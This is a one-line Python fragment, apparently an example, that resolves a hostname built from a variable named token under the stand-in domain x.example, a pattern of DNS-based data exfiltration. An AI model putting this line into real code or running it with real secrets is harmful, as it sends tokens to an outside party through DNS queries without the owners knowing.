socket.gethostbyname(f'{token}.x.example')
